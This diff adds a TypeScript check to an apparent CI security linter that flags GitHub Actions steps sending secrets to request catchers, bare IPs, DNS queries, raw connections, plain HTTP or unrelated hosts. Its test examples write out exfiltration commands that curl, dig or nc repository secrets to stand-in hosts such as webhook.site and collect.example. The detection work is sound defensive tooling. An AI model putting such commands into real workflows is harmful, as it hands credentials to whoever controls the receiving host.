@@ -1,0 +1,122 @@
+import { stepScopes } from '../../../evidence/parse/workflow/flow/scope.ts';
+import { type SentSecret, sentSecrets } from '../../../evidence/parse/workflow/flow/sent-secrets.ts';
+import { defineCheck } from '../../define-check.ts';
+import { jobOn } from '../../example-workflow.ts';
+import { placeInScript } from '../../workflow-place.ts';
+
+const REVOKE =
+  'Remove the command, find out who added it, and rotate the secret: whoever controls the other end has it.';
+
+export default defineCheck({
+  id: 'workflow/secrets/exfiltration',
+  title: 'Secrets are sent to their own services only',
+  why: 'What a script sends away is no longer protected by the repository. Attackers who get a change merged, or take over a tool, send the secrets of the job to a server of theirs.',
+  needs: ['workflows'],
+  problems: {
+    collector: {
+      severity: 'high',
+      likelihood: 'likely',
+      message: 'A secret is sent to a service that records requests, or to a bare IP address',
+      fix: { any: REVOKE },
+    },
+    channel: {
+      severity: 'high',
+      likelihood: 'likely',
+      message: 'A secret is sent through a raw connection or a DNS query',
+      fix: { any: REVOKE },
+    },
+    plaintext: {
+      severity: 'medium',
+      likelihood: 'observed',
+      message: 'A secret is sent over an unencrypted connection',
+      fix: { any: 'Use the `https:` address of the service, and rotate the secret.' },
+    },
+    foreign: {
+      severity: 'low',
+      likelihood: 'possible',
+      message: 'A secret is sent to a host that its name does not mention',
+      fix: {
+        any: 'Make sure that the host is the service that the secret is for. Name the secret after the service, so that a wrong destination is noticed in a review.',
+      },
+    },
+  },
+  references: [
+    'CWE-200',
+    'CWE-319',
+    'https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information',
+  ],
+  run({ workflows }) {
+    return stepScopes(workflows).flatMap((scope) => {
+      const { run } = scope.step;
+      const sent = run ? sentSecrets(run.value, scope) : [];
+      return distinct(sent).map(({ kind, command, host }) => ({
+        problem: kind,
+        location: placeInScript(scope, command.text, `run ${command.name} ${host}`),
+        evidence: `${command.text.slice(0, 300)}\nTo: ${host}`,
+      }));
+    });
+  },
+  examples: () => [
+    {
+      name: 'to a request catcher, an address, a name server and a raw connection',
+      given: {
+        workflows: jobOn(
+          'push',
+          `- run: curl -d "t=\${{ secrets.API_TOKEN }}" https://abc123.webhook.site/
+- run: echo "$KEY" | base64 | curl --data @- https://203.0.113.9/x
+  env: { KEY: "\${{ secrets.SIGNING_KEY }}" }
+- run: dig "\${{ secrets.API_TOKEN }}.collect.example"
+- run: |
+    VALUE="$KEY"
+    echo "$VALUE" | nc collect.example 443
+  env: { KEY: "\${{ secrets['SIGNING_KEY'] }}" }`,
+        ),
+      },
+      finds: ['collector', 'collector', 'channel', 'channel'],
+    },
+    {
+      name: 'unencrypted, and to a host that has nothing to do with it',
+      given: {
+        workflows: jobOn(
+          'push',
+          `- run: |
+    curl -H "Authorization: Bearer \${{ secrets.ACME_TOKEN }}" \\
+      http://api.acme.example/deploy
+- run: wget --header "X-Key:$KEY" "https://stats.example.com/collect"
+  env: { KEY: "\${{ secrets.SIGNING_KEY }}" }
+- run: curl -u "x:\${{ github.token }}" https://api.acme-mirror.example`,
+        ),
+      },
+      finds: ['plaintext', 'foreign', 'foreign'],
+    },
+    {
+      name: 'to the service it is for, to the own host, to a host that is a secret, and locally',
+      given: {
+        workflows: jobOn(
+          'push',
+          `- run: |
+    curl -H "Authorization: Bearer \${{ secrets.VENDOR_TOKEN }}" https://api.vendor.example/v1
+    curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user
+    curl -d text=done "$HOOK"
+    curl -d "{}" "https://$HOST/hook?token=\${{ secrets.DEPLOY_TOKEN }}"
+    curl -H "X-Token: \${{ secrets.DEPLOY_TOKEN }}" http://localhost:8080/
+    curl -u "ci:\${{ secrets.PASSWORD }}" https://deploy.acme.example/
+    TOKEN=$(curl -s https://api.example/session)
+    curl -H "X: $TOKEN" https://api.example/next
+    curl -so tool https://tools.example/tool && ./tool "\${{ secrets.DEPLOY_TOKEN }}"
+  env:
+    HOOK: \${{ secrets.WEBHOOK }}
+    GITHUB_TOKEN: \${{ secrets.GITHUB_TOKEN }}
+- if: env.HAS == 'true'
+  run: curl -d "has=$HAS" https://status.example
+  env: { HAS: "\${{ secrets.API_TOKEN != '' }}" }`,
+        ),
+      },
+      finds: [],
+    },
+  ],
+});
+
+function distinct(sent: readonly SentSecret[]): SentSecret[] {
+  return [...new Map(sent.map((one) => [`${one.host} ${one.command.text}`, one])).values()];
+}
